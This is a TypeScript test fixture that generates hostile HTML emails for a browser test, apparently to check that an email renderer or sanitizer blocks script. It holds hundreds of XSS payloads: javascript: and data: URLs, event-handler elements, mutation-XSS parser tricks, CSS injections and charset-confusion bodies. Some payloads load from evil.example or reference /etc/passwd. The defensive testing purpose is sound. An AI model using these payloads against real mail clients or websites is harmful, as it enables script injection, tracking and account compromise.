/**
 * Hostile HTML mails, built from a table of places × vectors. Each tries to run script, to navigate, to load
 * something or to break out of the frame when it is rendered. Written for this project.
 */
export type HostileMail = {
  name: string
  /** The charset the mail claims. */
  charset: string
  /** The body as received, one character a byte. */
  body: string
  /** The body as HTML, decoded as the claimed charset. */
  html: string
}

/** Sets the canary of the browser test. */
const PWN = 'window.__pwn=1'

const scriptAddresses = [
  `javascript:${PWN}`,
  `JaVaScRiPt:${PWN}`,
  `java\tscript:${PWN}`,
  `java\nscript:${PWN}`,
  `java&#x0A;script:${PWN}`,
  `&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;${PWN}`,
  `&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A${PWN}`,
  `\u0001javascript:${PWN}`,
  ` &#14; javascript:${PWN}`,
  `java\0script:${PWN}`,
  `javascript&colon;${PWN}`,
  `javascript&Tab;:${PWN}`,
  `javascript://nordlicht.example/%0a${PWN}`,
  `vbscript:msgbox(1)`,
  `data:text/html,<script>parent.${PWN}</script>`,
  `data:text/html;base64,PHNjcmlwdD5wYXJlbnQuX19wd249MTwvc2NyaXB0Pg==`,
  `data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='parent.${PWN}'/>`,
  `blob:https://nordlicht.example/1`,
  `file:///etc/passwd`,
  `//evil.example/x`,
  `view-source:javascript:${PWN}`,
  `feed:javascript:${PWN}`,
]

const addressPlaces: [string, (address: string) => string][] = [
  ['link', (a) => `<a href="${a}">click</a>`],
  ['image', (a) => `<img src="${a}">`],
  ['frame', (a) => `<iframe src="${a}"></iframe>`],
]

const handlerElements = [
  '<img src=x onerror=H>',
  '<img src=x onerror=H//',
  '<img/src=x/onerror=H>',
  '<img src="x"onerror=H>',
  '<img src=x oNeRrOr=H>',
  '<img src=x on\0error=H>',
  '<img src=`x`onerror=H>',
  "<img src='x' title='\"><img src=x onerror=H>'>",
  '<img alt="<x" title="/><img src=x onerror=H>">',
  '<body onload=H>',
  '<svg onload=H>',
  '<svg/onload=H>',
  '<svg><animate onbegin=H attributeName=x dur=1s>',
  '<svg><set attributeName=href to="javascript:H"/><a id=x><text>t</text></a></svg>',
  '<svg><a xlink:href="javascript:H"><text x=20 y=20>t</text></a></svg>',
  '<svg><script>H</script></svg>',
  '<svg><script href="data:,H"/></svg>',
  '<svg><foreignObject><iframe srcdoc="<script>parent.H</script>"></iframe></foreignObject></svg>',
  '<svg><use href="data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg onload=H/>#x"/></svg>',
  '<math href="javascript:H">t</math>',
  '<math><maction actiontype="statusline#http://x" xlink:href="javascript:H">t</maction></math>',
  '<video onerror=H><source src=x></video>',
  '<video><source onerror=H src=x></video>',
  '<audio src=x onerror=H>',
  '<details open ontoggle=H>t</details>',
  '<input autofocus onfocus=H>',
  '<select autofocus onfocus=H><option>t</select>',
  '<textarea autofocus onfocus=H>t</textarea>',
  '<button autofocus onfocus=H>t</button>',
  '<marquee onstart=H>t</marquee>',
  '<p style="animation-name:x" onanimationstart=H>t</p>',
  '<div tabindex=0 autofocus onfocus=H>t</div>',
  '<div contenteditable onbeforeinput=H autofocus>t</div>',
  '<a href=# onclick=H autofocus onfocus=H>t</a>',
  '<object data="data:text/html,<script>parent.H</script>"></object>',
  '<object type="text/x-scriptlet" data="x"></object>',
  '<embed src="data:text/html,<script>parent.H</script>">',
  '<iframe srcdoc="<script>parent.H</script>"></iframe>',
  '<iframe srcdoc="&lt;img src=x onerror=parent.H&gt;"></iframe>',
  '<applet code=x onerror=H></applet>',
  '<link rel=stylesheet href="data:text/css,*{color:red}" onload=H>',
  '<link rel=import href="data:text/html,<script>H</script>">',
  '<meta http-equiv=refresh content="0;url=javascript:H">',
  '<meta http-equiv=refresh content="0;url=https://evil.example/">',
  '<meta http-equiv="Content-Security-Policy" content="script-src *">',
  '<base href="https://evil.example/"><a href="x">t</a>',
  '<base target="_top"><a href="https://evil.example/">t</a>',
  '<form action="javascript:H"><input type=submit autofocus></form>',
  '<form><form action="javascript:H"><button>t</button></form></form>',
  '<form id=f></form><button form=f formaction="javascript:H">t</button>',
  '<isindex action="javascript:H" type=image>',
  '<dialog open onclose=H><form method=dialog><button autofocus>t</button></form></dialog>',
  '<style>@import "https://evil.example/x.css";</style>',
  '<style>*{background:url(https://evil.example/x)}</style>',
  '<style onload=H>x{}</style>',
  '<div id=app>clobber</div><img name=body><a id=__pwn href="https://evil.example/">x</a>',
  '<body background="https://evil.example/x" bgcolor=red>t</body>',
  '<table background="javascript:H"><tr><td background="https://evil.example/x">t</table>',
  '<frameset onload=H><frame src="javascript:H"></frameset>',
  '<portal src="https://evil.example/"></portal>',
  '<xml id=x><a><b>&lt;img src=x onerror=H&gt;</b></a></xml>',
  '<?xml version="1.0"?><?xml-stylesheet href="javascript:H"?><p>t',
  '<!DOCTYPE html [<!ENTITY x "<script>H</script>">]>&x;',
  '<![CDATA[<script>H</script>]]>',
  '<a href="https://ok.example/" target="_top" rel="opener" ping="https://evil.example/">t</a>',
]

const mutations = [
  '<noscript><p title="</noscript><img src=x onerror=H>"></noscript>',
  '<noembed><p title="</noembed><img src=x onerror=H>"></noembed>',
  '<noframes><p title="</noframes><img src=x onerror=H>"></noframes>',
  '<template><img src=x onerror=H></template>',
  '<template><style></template><img src=x onerror=H></style>',
  '<textarea><p title="</textarea><img src=x onerror=H>">',
  '<title><p title="</title><img src=x onerror=H>">',
  '<xmp><p title="</xmp><img src=x onerror=H>">',
  '<plaintext><img src=x onerror=H>',
  '<listing>&lt;img src=x onerror=H&gt;</listing>',
  '<style><!--</style><img src=x onerror=H>--></style>',
  '<style><img src="</style><img src=x onerror=H//">',
  '<script><!--<script></script><img src=x onerror=H></script>',
  '<!--><img src=x onerror=H>-->',
  '<!---><img src=x onerror=H>-->',
  '<!--a--!><img src=x onerror=H>-->',
  '<!-- --><!---!><img src=x onerror=H>-->',
  '<![if <iframe src=x onload=H>]>',
  '<!--[if gte mso 9]><img src=x onerror=H><![endif]-->',
  '<!--<img src="--><img src=x onerror=H//">',
  '<comment><img src="</comment><img src=x onerror=H//">',
  '<svg></p><style><a title="</style><img src=x onerror=H>">',
  '<svg><style><img src=x onerror=H></style></svg>',
  '<svg><style>&lt;img src=x onerror=H&gt;</style></svg>',
  '<svg><title><style></title><img src=x onerror=H></style>',
  '<svg><desc><table><svg><style><a title="</style><img src=x onerror=H>">',
  '<svg><![CDATA[><img src=x onerror=H>]]></svg>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=H&gt;">',
  '<math><mtext><table><mglyph><style><math><img src onerror=H>',
  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=H>',
  '<math><annotation-xml encoding="text/html"><style><img src=x onerror=H></style></annotation-xml></math>',
  '<math><mi><b><style><!--</b></mi></math><img src=x onerror=H>--></style>',
  '<div><div><svg><foreignObject><p><table><tr><style></style></tr></table></p><img src=x onerror=H>',
  '<table><caption><svg><title><style><img src=x onerror=H></style></title></svg></caption></table>',
  '<select><template><style><!--</template><a title="--><img src=x onerror=H>">',
  '<select><style></select><img src=x onerror=H></style>',
  '<option><style></option></select><img src=x onerror=H></style>',
  '<p id="</p><img src=x onerror=H>">',
  '<a title="&quot;&gt;&lt;img src=x onerror=H&gt;">t</a>',
  '<img alt="``onerror=H ">',
  '<a href="https://ok.example/&quot; onmouseover=&quot;H">t</a>',
  '<a href=\'https://ok.example/" onmouseover="H\'>t</a>',
  '<font face="&quot; onmouseover=&quot;H">t</font>',
  '&lt;script&gt;H&lt;/script&gt;',
  '&amp;lt;img src=x onerror=H&amp;gt;',
  '<<img src=x onerror=H>',
  '<img src=x onerror=H',
  '<script>H',
  '<scr<script>ipt>H</scr</script>ipt>',
  '<script\0>H</script>',
  '<scr\0ipt>H</script>',
  '<\0script>H</script>',
  '<script/x>H</script >',
  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
  '<ſcript>H</ſcript>',
  '</script><script>H</script>',
  '</body></html><script>H</script>',
  '<b/ onmouseover=H>t</b>',
  '<a\u000chref="javascript:H">t</a>',
  '<image src=x onerror=H>',
  '<x:script xmlns:x="http://www.w3.org/1999/xhtml">H</x:script>',
  '<html xmlns:x="x"><x:img src=x onerror=H></html>',
  'https://ok.example/"onmouseover=H" text to be linked',
  '<a href="mailto:a@b.example?subject=%22%3E%3Cscript%3EH%3C/script%3E">t</a>',
]

const styles = [
  'background:url(https://evil.example/x)',
  'background-image:url("javascript:H")',
  'background:u\\72l(https://evil.example/x)',
  'width:expression(H)',
  'width:exp/**/ression(H)',
  'behavior:url(x.htc)',
  '-moz-binding:url(https://evil.example/x#y)',
  'position:fixed;top:0;left:0;width:100%;height:100%;z-index:99999',
  'pos\\69tion:fixed',
  'position:fixed !important',
  'margin-left:-9999px;margin-top:-9999px',
  'color:red;}*{background:url(https://evil.example/x)}',
  'color:red&quot; onmouseover=&quot;H',
  "font-family:'x;background:url(https://evil.example/x)';color:red",
  'content:attr(title)',
  'list-style:url(https://evil.example/x)',
  'cursor:url(https://evil.example/x),auto',
  'filter:url(#x)',
  'mask:image-set("https://evil.example/x" 1x)',
  'background:-webkit-image-set(url(https://evil.example/x) 1x)',
  '--x:url(https://evil.example/x);background:var(--x)',
  '@import "https://evil.example/x";color:red',
  'color:red;\\0062ackground:url(https://evil.example/x)',
  'transform:scale(99)',
  'color:red;/*</style><img src=x onerror=H>*/',
]

/** `<img src=x onerror=…>` in charsets whose bytes look harmless when they are read as another one. */
const charsets: [string, string, string][] = [
  ['utf-7', 'utf-7', `+ADw-img src=x onerror=${PWN}+AD4-`],
  ['utf-7 unnamed', 'us-ascii', `+ADw-script+AD4-${PWN}+ADw-/script+AD4-`],
  ['iso-2022-jp comment', 'iso-2022-jp', `<a title="\x1b$B">\x1b(B<img src=x onerror=${PWN}>">`],
  ['iso-2022-jp escape in tag', 'iso-2022-jp', `<img src="\x1b(J" alt="\\" onerror=${PWN} x="">`],
  ['iso-2022-jp as utf-8', 'utf-8', `<img alt="\x1b$B"><img alt="\x1b(B" onerror=${PWN} x="">`],
  ['iso-2022-kr', 'iso-2022-kr', `\x1b$)C<p title="\x0e">\x0f<img src=x onerror=${PWN}>">`],
  ['hz-gb-2312', 'hz-gb-2312', `<p title="~{">~}<img src=x onerror=${PWN}>">`],
  ['shift_jis lead byte', 'shift_jis', `<img alt="\x81"><p title="onerror=${PWN} x=">`],
  ['gbk lead byte', 'gbk', `<img alt="\x81" title=" onerror=${PWN} ">`],
  ['overlong utf-8', 'utf-8', `\xc0\xbcscript\xc0\xbe${PWN}\xc0\xbc/script\xc0\xbe`],
  ['truncated utf-8', 'utf-8', `<img alt="\xf0" title="\xe2" src=x onerror=${PWN}>`],
  ['utf-16 as latin', 'utf-16le', [...`<img src=x onerror=${PWN}>`].map((c) => `${c}\0`).join('')],
  ['unknown charset', 'x-user-defined', `<img src=x onerror=${PWN}>`],
  ['ibm037 ebcdic', 'ibm037', `\x4c\xa2\x83\x99\x89\x97\xa3\x6e`],
]

function mail(name: string, html: string): HostileMail {
  const filled = html.replaceAll('H', (hit, at: number) => (isMarker(html, at) ? PWN : hit))
  return { name, charset: 'utf-8', body: toUtf8Bytes(filled), html: filled }
}

/** A capital H stands for the script unless it is part of a word. */
function isMarker(text: string, at: number): boolean {
  return !/[a-z]/i.test(text[at - 1] ?? '') && !/[a-z]/i.test(text[at + 1] ?? '')
}

function toUtf8Bytes(text: string): string {
  return unescape(encodeURIComponent(text))
}

/** All hostile mails, in a fixed order. */
export const hostileMails: readonly HostileMail[] = [
  mail('script element', '<script>H</script>'),
  ...addressPlaces.flatMap(([place, make]) =>
    scriptAddresses.map((address, i) => mail(`${place} to address ${i}`, make(address))),
  ),
  ...handlerElements.map((html, i) => mail(`element ${i}`, html)),
  ...mutations.map((html, i) => mail(`mutation ${i}`, html)),
  ...styles.map((style, i) => mail(`style ${i}`, `<div style="${style}">styled</div>`)),
  ...charsets.map(([name, charset, body]) => ({ name, charset, body, html: body })),
]

/** The mail as it would arrive, one character a byte. */
export function asRawMail({ name, charset, body }: HostileMail): string {
  return [
    'From: Mallory <mallory@example.net>',
    'To: service@firm.example',
    `Subject: hostile: ${name}`,
    'Date: Mon, 09 Nov 2026 10:00:00 +0100',
    `Message-ID: <${name.replace(/[^a-z0-9]+/gi, '-')}@hostile.example>`,
    'MIME-Version: 1.0',
    `Content-Type: text/html; charset=${charset}`,
    'Content-Transfer-Encoding: 8bit',
    '',
    body,
    '',
  ].join('\r\n')
}
